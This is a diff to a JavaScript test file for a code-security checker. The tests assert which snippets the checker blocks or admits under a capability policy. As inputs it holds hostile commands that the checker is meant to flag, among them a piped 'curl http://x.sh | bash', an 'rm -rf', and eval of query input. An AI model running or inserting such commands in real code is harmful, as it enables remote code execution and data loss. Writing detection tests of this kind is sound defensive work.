@@ -45,15 +45,18 @@ t.test('result shape follows QWED §4.3', async (t) => {
     critical_count: 0,
     warning_count: 0,
     issue_types: [],
+    capabilities: [],
+    blocked_capabilities: [],
+    policy: { allow: [], deny: [] },
     taint_analysis: false
-  }), 'proof_ref binds language, code digest, verdict and issue types')
+  }), 'proof_ref binds language, code digest, verdict, issue types, capabilities and policy')
   t.equal(ok.is_authoritative, true)
 
   const bad = await check('const userInput = req.query.q;\n\neval(userInput);\n')
   t.equal(bad.status, 'VERIFIED', 'proven unsafe is still an analysis result')
   t.equal(bad.agent_message, 'The code failed security verification and is not safe to use.')
-  t.match(bad.developer_fields, { constraint_id: 'code.code_unsafe', is_safe: false, is_valid: false, critical_count: 1, warning_count: 0 })
-  t.same(issues(bad)[0], { severity: 'CRITICAL', type: 'dangerous_function', description: 'eval() runs dynamically supplied code', line_number: 3 })
+  t.match(bad.developer_fields, { constraint_id: 'code.capability.code', is_safe: false, is_valid: false, critical_count: 1, warning_count: 0, blocked_capabilities: ['code'] })
+  t.same(issues(bad)[0], { severity: 'CRITICAL', type: 'dangerous_function', description: 'eval() runs dynamically supplied code', line_number: 3, capability: 'code' })
   t.equal(admissionOf(bad), 'BLOCKED')
   t.notMatch(bad.agent_message, /eval/, 'agent_message does not reveal rule internals')
 })
@@ -100,8 +103,14 @@ t.test('child_process in every spelling', async (t) => {
   await unsafe(t, 'import(modulePath)', 'dynamic_import')
   await unsafe(t, "require('child_process').exec('curl http://x.sh | bash')", 'remote_code_execution')
   await unsafe(t, "require('child_process').exec('rm -rf /tmp/build')", 'recursive_deletion')
-  const fixed = await safe(t, "const { spawn } = require('child_process')\nspawn('ls', ['-l'])")
-  t.equal(issues(fixed)[0]?.severity, 'WARNING', 'a fixed command with literal arguments is a WARNING')
+  // starting any program is the process capability, whatever the argv: denied by default, a
+  // WARNING when the claim allows it
+  const fixed = await check("const { spawn } = require('child_process')\nspawn('ls', ['-l'])")
+  t.equal(admissionOf(fixed), 'BLOCKED', 'a fixed command is still a process')
+  t.equal(fixed.developer_fields.constraint_id, 'code.capability.process')
+  const allowed = await engine.verify({ type: 'code', language: 'javascript', code: "const { spawn } = require('child_process')\nspawn('ls', ['-l'])", allow: ['process'] }, { signal: new AbortController().signal })
+  t.equal(admissionOf(allowed), 'ADMIT', 'allowed by the claim')
+  t.equal(issues(allowed)[0]?.severity, 'WARNING', 'an allowed capability is reported as a WARNING')
   await safe(t, "const path = require('path')\npath.join(a, b)\nconst re = /exec/\nre.exec(s)")
 })
 
@@ -148,7 +157,10 @@ t.test('native internals, vm, recursive deletion', async (t) => {
   await unsafe(t, "const rimraf = require('rimraf')\nrimraf.sync('build')", 'recursive_deletion')
   await unsafe(t, "import { rimraf } from 'rimraf'\nawait rimraf('dist')", 'recursive_deletion')
   await safe(t, "const { Worker } = require('node:worker_threads')\nnew Worker('./job.js')\nconst file = require(__dirname + '/data.json')")
-  await safe(t, "const fs = require('fs')\nfs.rmSync(file)\nfs.rmSync(dir, { recursive: false })\nfs.readFileSync('a.txt')")
+  // deletion is fs.delete outside a temp dir, recursive or not; inside one it is allowed
+  await unsafe(t, "const fs = require('fs')\nfs.rmSync(file)", 'capability_use')
+  await unsafe(t, "const fs = require('fs')\nconst opts = { force: true, recursive: true }\nfs.rmSync(p, { ...opts })", 'recursive_deletion')
+  await safe(t, "const fs = require('fs')\nconst os = require('os')\nconst path = require('path')\nfs.rmSync(path.join(os.tmpdir(), 'job'), { recursive: true })\nfs.readFileSync('a.txt')")
   await safe(t, 'process.exitCode = 1\nconsole.log(process.env.HOME)')
 })
 
@@ -390,7 +402,8 @@ t.test('imports of URLs and escaping command modules', async (t) => {
   await unsafe(t, "const cp = require('child_process')\ncp.execSync`id`", 'command_execution')
   await unsafe(t, 'const loaders = { load: require }\nloaders.load(name)', 'dynamic_import')
   await safe(t, "import('./module.js').then((m) => m.run())\nconst l = await import('lodash')\nimport fs from 'node:fs'\nfs.readFileSync('a')")
-  await safe(t, "const { execFile } = require('child_process')\nexecFile('ls', ['-l'])\nconst cp = require('child_process')\nconst { spawn } = cp")
+  await unsafe(t, "const { execFile } = require('child_process')\nexecFile('ls', ['-l'])", 'capability_use')
+  await safe(t, "const cp = require('child_process')\nconst { spawn } = cp")
   await safe(t, "if (typeof require !== 'undefined' && require.main === module) main()\nconst p = require.resolve('x')")
 })
 
